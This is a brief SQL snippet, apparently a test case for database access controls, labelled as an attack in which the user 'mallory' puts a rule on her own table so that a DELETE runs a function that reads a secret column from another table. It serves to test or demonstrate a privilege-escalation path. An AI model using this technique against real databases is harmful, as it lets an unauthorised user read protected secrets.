-- Lets a rule on an own table call a function that runs a text.
-- wants: read
-- attack:
CREATE RULE r AS ON DELETE TO mallory_own DO INSTEAD SELECT read_any('SELECT secret FROM vlt_account');
DELETE FROM mallory_own;
